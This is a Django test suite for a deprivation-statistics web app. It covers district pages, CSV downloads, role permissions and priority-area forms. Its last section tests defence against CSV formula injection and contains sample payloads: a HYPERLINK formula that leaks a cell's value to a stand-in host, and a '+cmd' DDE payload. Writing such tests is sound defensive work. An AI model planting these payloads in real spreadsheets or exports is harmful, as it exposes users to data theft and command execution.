"""The pages: what each role sees, CSV downloads, forms that keep what was typed."""

import csv
import io

import pytest

from equalchance.accounts.models import Role
from equalchance.accounts.tests.factories import UserFactory
from equalchance.places.models import PriorityArea

pytestmark = pytest.mark.django_db
SOLIHULL = "E08000029"


@pytest.fixture
def analyst(client):
    user = UserFactory(username="analyst", role=Role.ANALYST)
    client.force_login(user)
    return user


@pytest.fixture
def viewer(client):
    user = UserFactory(username="viewer", role=Role.VIEWER)
    client.force_login(user)
    return user


def rows_of(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_profile_shows_the_published_measures(client, viewer):
    response = client.get(f"/places/districts/{SOLIHULL}/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "17.370" in html and "171 of 317" in html  # IMD average score and its rank
    assert "0.1194" in html  # proportion of LSOAs in the most deprived 10%


def test_the_profile_downloads_as_csv_in_the_command_line_shape(client, viewer):
    rows = rows_of(client.get(f"/places/districts/{SOLIHULL}/?format=csv"))
    assert rows[0] == ["area_code", "area_name", "domain", "measure", "value", "rank"]
    assert ["E08000029", "Solihull", "imd", "average_score", "17.370", "171"] in rows
    assert len(rows) == 1 + 13


def test_the_lsoa_table_and_its_csv_agree_and_follow_the_filters(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/?max_decile=1")
    assert page.context["areas"] and all(a["decile"] == 1 for a in page.context["areas"])
    rows = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?max_decile=1&format=csv"))
    assert [r[0] for r in rows[1:]] == [a["code"] for a in page.context["areas"]]
    assert len(rows) - 1 == 16
    everything = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv&sort=name"))
    assert len(everything) - 1 == 134
    names = [r[1] for r in everything[1:]]
    assert names == sorted(names)


def test_the_ward_view_ranks_wards_and_the_map_carries_their_boundaries(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/?level=ward&domain=income")
    assert page.context["level"] == "ward" and len(page.context["areas"]) == 17
    assert page.context["features"].count('"type":"Feature"') == 17


def test_a_release_without_ward_summaries_says_so_and_shows_lsoas(client, viewer):
    page = client.get(f"/places/districts/{SOLIHULL}/areas/?level=ward&release=2025")
    assert page.context["level"] == "lsoa" and "population denominators" in page.context["notice"]
    assert len(page.context["areas"]) == 134


def test_change_page_says_plainly_that_the_lookup_is_not_one_to_one(client, viewer):
    html = client.get("/places/districts/E08000018/change/?compare=2019-2025").content.decode()
    assert "not strictly comparable" in html and "not one-to-one" in html
    rows = rows_of(client.get("/places/districts/E08000018/change/?compare=2019-2025&format=csv"))
    assert len(rows) - 1 == 167 and {r[8] for r in rows[1:]} >= {"U", "S"}


def test_all_districts_are_listed_and_sortable(client, viewer):
    page = client.get("/places/districts/?sort=extent")
    districts = page.context["districts"]
    assert len(districts) == 317 and districts[0]["name"] == "Liverpool"


def test_an_unknown_district_is_not_found(client, viewer):
    assert client.get("/places/districts/E08999999/").status_code == 404


def test_a_viewer_cannot_open_or_post_the_priority_area_form(client, viewer):
    assert client.get(f"/places/districts/{SOLIHULL}/priority-areas/new/").status_code == 403
    response = client.post(
        f"/places/districts/{SOLIHULL}/priority-areas/new/", {"name": "X", "method": "rule"}
    )
    assert response.status_code == 403 and not PriorityArea.objects.exists()


def test_the_form_keeps_what_was_typed_when_it_is_wrong(client, analyst):
    response = client.post(
        f"/places/districts/{SOLIHULL}/priority-areas/new/",
        {"name": "Regeneration Wards", "description": "North Solihull", "method": "wards"},
    )
    html = response.content.decode()
    assert response.status_code == 200 and "There is a problem" in html
    assert 'value="Regeneration Wards"' in html and "North Solihull" in html
    assert '<a href="#id_wards">Select at least one ward</a>' in html
    assert not PriorityArea.objects.exists()


def test_an_analyst_creates_a_priority_area_and_sees_its_profile(client, analyst):
    response = client.post(
        f"/places/districts/{SOLIHULL}/priority-areas/new/",
        {"name": "Regeneration Wards", "method": "wards", "wards": ["E05001287", "E05001300", "E05001290"]},
    )
    area = PriorityArea.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/places/priority-areas/{area.pk}/"
    page = client.get(response["Location"])
    profile = {row.name: row for row in page.context["profile"].decile_profile}
    assert profile["Regeneration Wards"].lsoas == 25
    assert profile["Rest of Solihull"].lsoas == 134 - 25
    assert (
        profile["Regeneration Wards"].population + profile["Rest of Solihull"].population
        == profile["Solihull"].population
    )
    assert abs(sum(profile["Regeneration Wards"].shares) - 1) < 1e-9
    rows = rows_of(client.get(f"/places/priority-areas/{area.pk}/?format=csv"))
    assert {r[0] for r in rows[1:]} == {"Regeneration Wards", "Rest of Solihull"}


# ---------------------------------------------------------------------------------------------------
# Names are text in every CSV download, never a live spreadsheet formula

FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'


def test_a_priority_area_named_as_a_formula_downloads_as_text(client, analyst):
    from equalchance.places.models import Area
    from equalchance.places.services import priority_area_create

    area = priority_area_create(
        name=FORMULA,
        district=Area.objects.get(code=SOLIHULL),
        by=analyst,
        method="wards",
        codes=["E05001287"],
        description="",
    )
    rows = rows_of(client.get(f"/places/priority-areas/{area.pk}/?format=csv"))
    assert {r[0] for r in rows[1:]} == {"'" + FORMULA, "Rest of Solihull"}


def test_lsoa_and_ward_names_beginning_like_formulas_download_as_text(client, viewer):
    from equalchance.places.models import Area

    lsoa = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv"))[1]
    Area.objects.filter(code=lsoa[0]).update(name="+cmd|' /C calc'!A0")
    Area.objects.filter(code="E05001287").update(name="@SUM(1,2)")
    areas = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv"))
    assert ["'+cmd|' /C calc'!A0"] == [r[1] for r in areas if r[0] == lsoa[0]]
    assert "'@SUM(1,2)" in {r[8] for r in areas}
    change = rows_of(client.get(f"/places/districts/{SOLIHULL}/change/?compare=2015-2019&format=csv"))
    assert "'@SUM(1,2)" in {r[2] for r in change}
    assert not any(cell.startswith(("=", "+", "@")) for row in areas + change for cell in row)


def test_district_names_beginning_like_formulas_are_text_in_downloads_and_the_command(client, viewer):
    from django.core.management import call_command

    from equalchance.places import selectors
    from equalchance.places.models import Area

    Area.objects.filter(code=SOLIHULL).update(name="-1+1")
    selectors._summaries.clear()  # district names are read with the cached summaries
    try:
        rows = rows_of(client.get(f"/places/districts/{SOLIHULL}/?format=csv"))
        assert {r[1] for r in rows[1:]} == {"'-1+1"}
        everyone = rows_of(client.get("/places/districts/?format=csv"))
        assert "'-1+1" in {r[1] for r in everyone}
        out = io.StringIO()
        call_command(
            "deprivation", "summaries", release=2019, level="district", district=SOLIHULL, stdout=out
        )
        command = list(csv.reader(io.StringIO(out.getvalue())))
        assert {r[1] for r in command[1:]} == {"'-1+1"}
        # numbers are written as before
        assert [r[4] for r in command if r[2:4] == ["imd", "average_score"]] == ["17.370"]
    finally:
        selectors._summaries.clear()
